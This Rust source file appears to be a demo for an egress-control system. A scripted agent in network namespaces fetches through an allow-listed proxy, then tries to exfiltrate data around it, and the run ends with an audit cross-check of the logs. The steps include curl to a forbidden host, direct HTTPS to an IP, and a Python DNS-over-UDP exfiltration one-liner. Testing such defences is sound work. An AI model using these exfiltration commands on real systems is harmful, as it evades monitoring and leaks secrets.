//! `tank-demo` (run by `cargo xtask demo`, root): the audited path end to end on two hosts.
//!
//! Builds the [`TwoHosts`] topology (agent host with tank-loader and its nft baseline, proxy
//! host with egress-proxy, an "internet" host with an HTTPS origin), shows `tank-loader trace`
//! live while a scripted agent fetches through the proxy and then tries to exfiltrate around
//! it, and ends with the auditor's cross-check of the kernel and proxy logs. Everything is torn
//! down at the end, also on failure.

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use tank_integration_tests::topology::{
    TwoHosts, AGENT_IP, API_NAME, FORBIDDEN_NAME, ORIGIN_IP, ORIGIN_NAME, PROXY_IP, PROXY_PORT,
};
use tank_integration_tests::workspace_bin;

/// Time for a step's records to reach the live trace before the next step prints.
const SETTLE: Duration = Duration::from_millis(400);

fn main() {
    println!("== building three hosts as network namespaces:");
    println!("   agent host {AGENT_IP} -> proxy host {PROXY_IP}:{PROXY_PORT} -> internet {ORIGIN_IP} ({ORIGIN_NAME}:443)");
    let mut hosts = TwoHosts::start();
    println!(
        "== tank-loader enforces on cgroup {} (kernel gate + nft baseline); egress-proxy allows only {ORIGIN_NAME}:443\n",
        hosts.cgroups.agent.display()
    );

    let mut trace = hosts
        .agent
        .command(workspace_bin("tank-loader"))
        .arg("trace")
        .arg("--config")
        .arg(&hosts.loader.config)
        .stdout(Stdio::piped())
        .spawn()
        .expect("start tank-loader trace");
    let mut lines = BufReader::new(trace.stdout.take().unwrap()).lines();
    let header = lines.next().and_then(Result::ok).unwrap_or_default();
    println!("   trace | {header}");
    std::thread::spawn(move || {
        for line in lines.map_while(Result::ok) {
            println!("   trace | {line}");
        }
    });

    let clone = hosts.dir.path().join("home/tools");
    let agent = |program: &str, args: &[&str]| {
        let mut c = hosts.agent_command(program);
        c.args(args);
        c
    };
    let steps: Vec<(&str, Command)> = vec![
        (
            "fetch https://origin.test/hello.txt through the proxy (curl)",
            hosts.proxied_curl(&format!("https://{ORIGIN_NAME}/hello.txt")),
        ),
        (
            "clone https://origin.test/tools.git through the proxy (git)",
            hosts.proxied_git_clone(&format!("https://{ORIGIN_NAME}/tools.git"), &clone),
        ),
        (
            "call the forge API through the proxy, inspected: owner/repo, then owner/other, in one tunnel (no token given)",
            {
                let mut c = hosts.proxied_curl(&format!("https://{API_NAME}/repos/owner/repo/issues"));
                c.arg(format!("https://{API_NAME}/repos/owner/other/issues"))
                    .args(["-o", "/dev/null", "-o", "/dev/null", "-w", "%{url_effective} -> %{http_code}\n"]);
                c
            },
        ),
        (
            "exfiltrate via the proxy to a site it does not allow",
            hosts.proxied_curl(&format!("https://{FORBIDDEN_NAME}/upload")),
        ),
        (
            "exfiltrate by a direct HTTPS connection",
            agent("curl", &["-sS", "--max-time", "5", &format!("https://{ORIGIN_IP}/upload")]),
        ),
        (
            "exfiltrate in a DNS query (UDP 53)",
            agent("python3", &["-c", &format!("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret.exfil.example', ('{ORIGIN_IP}', 53))")]),
        ),
        (
            "exfiltrate to another port of the proxy host",
            agent("curl", &["-sS", "--max-time", "5", &format!("http://{PROXY_IP}:8080/")]),
        ),
    ];
    let mut proxied = 0;
    for (what, mut cmd) in steps {
        println!("\n== agent: {what}");
        let (code, out) = hosts.run_agent(&mut cmd);
        let lines: Vec<&str> = out
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty())
            .collect();
        println!("   -> {}", if code == 0 { "ok" } else { "FAILED:" });
        for l in lines.iter().rev().take(2).rev() {
            println!("      {l}");
        }
        if what.contains("through the proxy") && code == 0 {
            proxied += 1;
        }
        std::thread::sleep(SETTLE);
    }

    // The proxy writes a record when a connection ends; stopping it syncs its log.
    hosts.wait_proxy_records(proxied + 1);
    hosts.wait_established(proxied);
    std::thread::sleep(SETTLE);
    let _ = trace.kill();
    let _ = trace.wait();
    hosts.stop_proxy();

    println!("\n== the forge's own log: what reached it (the agent never held the token)");
    for l in std::fs::read_to_string(&hosts.origin_received)
        .unwrap_or_default()
        .lines()
    {
        println!("   origin | {l}");
    }
    println!("\n== the proxy's request records inside the inspected tunnel (OCSF HTTP Activity)");
    let records = std::fs::read_to_string(&hosts.proxy_log).unwrap_or_default();
    for r in records
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
    {
        if r["class_uid"] == 4002 {
            println!(
                "   proxy  | {} {} -> {} {} by {} credential {} tunnel {}",
                r["http_request"]["http_method"].as_str().unwrap_or("?"),
                r["http_request"]["url"]["url_string"]
                    .as_str()
                    .unwrap_or("?"),
                r["http_response"]["code"],
                r["action"].as_str().unwrap_or("?"),
                r["unmapped"]["rule"].as_str().unwrap_or("?"),
                r["unmapped"]["credential"].as_str().unwrap_or("-"),
                r["metadata"]["correlation_uid"].as_str().unwrap_or("?"),
            );
        }
    }

    println!(
        "\n== the auditor: tank-loader audit cross-check --kernel KERNEL_LOG --proxy PROXY_LOG\n"
    );
    // The same report as a page for the auditor's file, kept after the demo (target/demo/).
    let html = std::env::current_exe()
        .expect("current_exe")
        .parent()
        .and_then(Path::parent)
        .expect("target directory")
        .join("demo/cross-check.html");
    std::fs::create_dir_all(html.parent().unwrap()).expect("create target/demo");
    let out = hosts
        .cross_check()
        .arg("--html")
        .arg(&html)
        .output()
        .expect("run the cross-check");
    print!("{}", String::from_utf8_lossy(&out.stdout));
    eprint!("{}", String::from_utf8_lossy(&out.stderr));
    println!("the same report as one HTML page: {}", html.display());
    println!("\n== tearing down (loader stopped, gate detached, namespaces and cgroup removed)");
    drop(hosts);
    std::process::exit(out.status.code().unwrap_or(1));
}
